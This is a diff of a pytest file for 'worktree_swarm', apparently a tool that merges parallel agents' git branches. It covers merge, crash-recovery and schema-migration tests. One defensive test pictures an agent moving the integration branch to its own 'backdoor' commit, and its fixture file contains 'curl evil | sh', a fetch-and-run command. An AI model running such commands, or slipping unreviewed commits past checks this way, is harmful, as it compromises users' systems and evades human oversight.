@@ -15,13 +15,13 @@ from urllib.parse import unquote
 import pytest
 
 from conftest import Repo, git
-from worktree_swarm.errors import CommandError, NotARepositoryError, RefMovedError, RunNotFoundError
+from worktree_swarm.errors import CommandError, NotARepositoryError, RefMovedError, RunNotFoundError, UsageError
 from worktree_swarm.git.diff import FileChange, changed_files, diff_text
 from worktree_swarm.git.merge import MergeTree, commit_tree, merge_tree
 from worktree_swarm.git.refs import encode, integration_branch, task_branch, task_branch_prefix
 from worktree_swarm.git.repo import Repo as GitRepo
 from worktree_swarm.git.worktrees import FreshWorktrees, WorktreeInfo, list_worktrees, remove_worktree
-from worktree_swarm.merge import merge_branch, merge_message
+from worktree_swarm.merge import Integration, IntegrationMovedError, merge_message
 from worktree_swarm.state import RunStore, find_run, list_runs
 from worktree_swarm.types import BranchName, RunId, Sha
 
@@ -218,19 +218,27 @@ def integration_at(repo: Repo, base: str) -> BranchName:
     return branch
 
 
-def test_merge_branch_makes_one_two_parent_commit_and_moves_the_branch(repo: Repo, tmp_path: Path) -> None:
+def train_at(repo: Repo, tmp_path: Path, head: str) -> Integration:
+    """A run whose integration branch is at HEAD, as the run itself recorded it."""
+    branch = integration_at(repo, head)
+    store = RunStore.create(tmp_path / "run", run_id=RUN, base=head, base_ref="main", integration_branch=branch,
+                            plan_json="[]", task_ids=[], options={})
+    return Integration(gitrepo(repo), store)
+
+
+def test_a_merge_makes_one_two_parent_commit_and_moves_the_branch(repo: Repo, tmp_path: Path) -> None:
     base = sha(repo, "HEAD")
     other = commit_on(repo, "other", base, {"other.txt": "o\n"}, "other")
-    branch = integration_at(repo, base)
-    repo.git("update-ref", f"refs/heads/{branch}", other, base)   # the integration head moved on
+    train = train_at(repo, tmp_path, other)
+    branch = train.branch
     theirs = commit_on(repo, "task", base, {"task.txt": "t\n"}, "task")
     message = merge_message("refactor/buttons", "Convert buttons\nsecond line", body="attempt 2")
 
-    result = merge_branch(gitrepo(repo), integration=branch, theirs=theirs, message=message)
+    result = train.merge(Sha(theirs), message)
 
     assert result.merge_commit is not None and result.conflicts == [] and result.messages == []
     assert result.integration_head == other
-    assert sha(repo, branch) == result.merge_commit
+    assert sha(repo, branch) == result.merge_commit == train.head == train.store.run().integration_head
     assert repo.git("rev-list", "--parents", "-n", "1", branch).split() == [result.merge_commit, other, theirs]
     assert repo.git("log", "-1", "--format=%B", branch) == \
         "wswarm: merge refactor/buttons — Convert buttons\n\nattempt 2"
@@ -245,27 +253,66 @@ def test_merge_message_is_one_cut_line() -> None:
     assert merge_message("t", "y" * 150) == "wswarm: merge t — " + "y" * 99 + "…\n"
 
 
-def test_merge_branch_on_conflict_leaves_the_branch_alone(repo: Repo) -> None:
+def test_a_conflicting_merge_leaves_the_branch_alone(repo: Repo, tmp_path: Path) -> None:
     base = sha(repo, "HEAD")
     ours = commit_on(repo, "ours", base, {"app/core.py": "VALUE = 2\n"}, "ours")
     theirs = commit_on(repo, "theirs", base, {"app/core.py": "VALUE = 3\n"}, "theirs")
-    branch = integration_at(repo, ours)
-    reflog = repo.git("reflog", "show", "--format=%H %gs", branch)
+    train = train_at(repo, tmp_path, ours)
+    reflog = repo.git("reflog", "show", "--format=%H %gs", train.branch)
 
-    result = merge_branch(gitrepo(repo), integration=branch, theirs=theirs, message=merge_message("t", "d"))
+    result = train.merge(Sha(theirs), merge_message("t", "d"))
 
     assert result.merge_commit is None
     assert result.integration_head == ours
     assert result.conflicts == ["app/core.py"]
     assert result.messages == ["CONFLICT (content): Merge conflict in app/core.py"]
-    assert sha(repo, branch) == ours
-    assert repo.git("reflog", "show", "--format=%H %gs", branch) == reflog
+    assert sha(repo, train.branch) == ours == train.head
+    assert repo.git("reflog", "show", "--format=%H %gs", train.branch) == reflog
 
 
-def test_merge_branch_without_the_integration_branch(repo: Repo) -> None:
-    with pytest.raises(LookupError):
-        merge_branch(gitrepo(repo), integration=BranchName("wswarm/nope/integration"), theirs=sha(repo, "HEAD"),
-                     message="m")
+def test_a_commit_slipped_onto_the_integration_branch_is_never_adopted(repo: Repo, tmp_path: Path) -> None:
+    # An agent moves the ref to a commit of its own (a backdoor no gate saw): the train refuses to
+    # merge on top of it, names it, and leaves both the ref and the recorded head alone.
+    base = sha(repo, "HEAD")
+    train = train_at(repo, tmp_path, base)
+    backdoor = commit_on(repo, "evil", base, {"backdoor.sh": "curl evil | sh\n"}, "innocent")
+    repo.git("update-ref", f"refs/heads/{train.branch}", backdoor)
+    theirs = commit_on(repo, "task", base, {"task.txt": "t\n"}, "task")
+
+    with pytest.raises(IntegrationMovedError, match=f"it is at {backdoor[:12]}") as caught:
+        train.merge(Sha(theirs), merge_message("t", "d"))
+
+    assert caught.value.exit_code == 1
+    assert sha(repo, train.branch) == backdoor and train.store.run().integration_head == base
+    [event] = [e for e in train.store.events() if e["kind"] == "integration-moved"]
+    assert (event["expected"], event["found"]) == (base, backdoor)
+
+
+def test_a_deleted_integration_branch_is_recreated_from_the_recorded_head(repo: Repo, tmp_path: Path) -> None:
+    base = sha(repo, "HEAD")
+    train = train_at(repo, tmp_path, base)
+    repo.git("update-ref", "-d", f"refs/heads/{train.branch}")
+    theirs = commit_on(repo, "task", base, {"task.txt": "t\n"}, "task")
+
+    result = train.merge(Sha(theirs), merge_message("t", "d"))
+
+    assert result.merge_commit is not None and sha(repo, train.branch) == result.merge_commit
+    assert [e["kind"] for e in train.store.events()] == ["integration-restored"]
+
+
+def test_a_move_a_crash_interrupted_is_settled_by_where_git_says_the_ref_is(repo: Repo, tmp_path: Path) -> None:
+    base = sha(repo, "HEAD")
+    train = train_at(repo, tmp_path, base)
+    new = commit_on(repo, "task", base, {"task.txt": "t\n"}, "task")
+    # Written ahead, then the process died before the ref moved: the move never happened.
+    train.store.set_run(integration_pending=new)
+    again = Integration(train.repo, train.store)
+    assert again.recover() == [] and again.head == base and train.store.run().integration_pending is None
+    # Written ahead, the ref moved, then the process died before confirming it: it happened.
+    train.store.set_run(integration_pending=new)
+    repo.git("update-ref", f"refs/heads/{train.branch}", new, base)
+    again = Integration(train.repo, train.store)
+    assert again.recover() and again.head == new == train.store.run().integration_head
 
 
 def test_update_ref_is_a_compare_and_swap(repo: Repo) -> None:
@@ -547,10 +594,32 @@ def test_run_store_create(tmp_path: Path) -> None:
     try:
         tables = {r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
         assert tables == {"meta", "run", "tasks", "attempts"}
-        assert db.execute("SELECT value FROM meta WHERE key = 'schema'").fetchall() == [("1",)]
+        assert db.execute("SELECT value FROM meta WHERE key = 'schema'").fetchall() == [("2",)]
         assert db.execute("PRAGMA journal_mode").fetchall() == [("wal",)]
     finally:
         db.close()
+
+
+def test_a_run_of_an_older_wswarm_is_brought_up_to_date_and_one_of_a_newer_is_refused(tmp_path: Path) -> None:
+    store = RunStore.create(tmp_path / "runs" / RUN, run_id=RUN, base="b" * 40, base_ref="main",
+                            integration_branch="wswarm/x/integration", plan_json="[]", task_ids=["a"], options={})
+    store.close()
+    db = sqlite3.connect(tmp_path / "runs" / RUN / "state.db", isolation_level=None)
+    for column in ("integration_head", "integration_pending"):          # as version 1 made it
+        db.execute(f"ALTER TABLE run DROP COLUMN {column}")
+    db.execute("UPDATE meta SET value = '1' WHERE key = 'schema'")
+    store = RunStore.open(tmp_path / "runs" / RUN)
+    try:
+        assert store.run().integration_head is None          # readers see the old shape as it is
+        store.migrate()
+        store.set_run(integration_head="c" * 40)
+        assert store.run().integration_head == "c" * 40
+    finally:
+        store.close()
+    db.execute("UPDATE meta SET value = '3' WHERE key = 'schema'")
+    db.close()
+    with pytest.raises(UsageError, match="made by a newer wswarm"):
+        RunStore.open(tmp_path / "runs" / RUN)
     with pytest.raises(FileExistsError):
         new_store(tmp_path)
     with pytest.raises(RunNotFoundError):
